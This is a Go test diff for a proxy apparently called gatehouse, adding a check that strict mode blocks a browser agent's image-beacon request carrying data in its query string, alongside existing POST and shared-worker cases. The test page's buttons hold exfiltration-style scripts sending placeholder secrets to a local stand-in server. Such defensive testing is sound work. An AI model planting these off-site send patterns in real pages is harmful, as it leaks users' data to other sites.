@@ -20,9 +20,10 @@ import (
 
 // TestBrowserThroughServe drives Chromium through `gatehouse serve` from
 // the CLI: the agent opens a page and reads it, clicks a button whose
-// script posts to another site and one that starts a shared worker posting
-// there (which only the proxy sees), and strict mode keeps both posts from
-// leaving; the journal verifies.
+// script posts to another site, one that starts a shared worker posting
+// there, and one that loads an image from there with data in its query,
+// and strict mode keeps all three from leaving, each on record; the journal
+// verifies.
 func TestBrowserThroughServe(t *testing.T) {
 	var received atomic.Int32
 	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -42,7 +43,8 @@ func TestBrowserThroughServe(t *testing.T) {
 		w.Header().Set("Content-Type", "text/html")
 		fmt.Fprintf(w, `<!doctype html><h1 id="t">Invoices</h1>
 <button id="b" onclick="fetch('%s/collect',{method:'POST',mode:'no-cors',body:'secret-form-data'}).then(()=>document.getElementById('t').textContent='sent')">go</button>
-<button id="w" onclick="const w = new SharedWorker('/shared.js'); w.port.onmessage = e => document.getElementById('t').textContent = e.data">worker</button>`, other.URL)
+<button id="w" onclick="const w = new SharedWorker('/shared.js'); w.port.onmessage = e => document.getElementById('t').textContent = e.data">worker</button>
+<button id="q" onclick="new Image().src = '%s/pixel.gif?d=secret-query-data'">pixel</button>`, other.URL, other.URL)
 	}))
 	defer site.Close()
 
@@ -71,6 +73,9 @@ func TestBrowserThroughServe(t *testing.T) {
 		}
 		time.Sleep(100 * time.Millisecond)
 	}
+	// A read of the other site carrying data in its query: refused too, and
+	// on record by the time the click returns.
+	act("click", `{"selector":"#q"}`)
 	if n := received.Load(); n != 0 {
 		t.Fatalf("the other site received %d requests in strict mode", n)
 	}
@@ -83,7 +88,8 @@ func TestBrowserThroughServe(t *testing.T) {
 		t.Fatalf("verify: %s", v.stdout)
 	}
 	b := readRun(t, data, run)
-	if strings.Count(b, `"refusal":"browser-send-off-site"`) < 2 || strings.Contains(b, "secret-form-data") || strings.Contains(b, "secret-shared-data") {
+	if strings.Count(b, `"refusal":"browser-send-off-site"`) < 2 || !strings.Contains(b, `"refusal":"browser-query-off-site"`) ||
+		strings.Contains(b, "secret-form-data") || strings.Contains(b, "secret-shared-data") || strings.Contains(b, "secret-query-data") {
 		t.Fatalf("the refused send is not on record, or its body is:\n%s", b)
 	}
 }
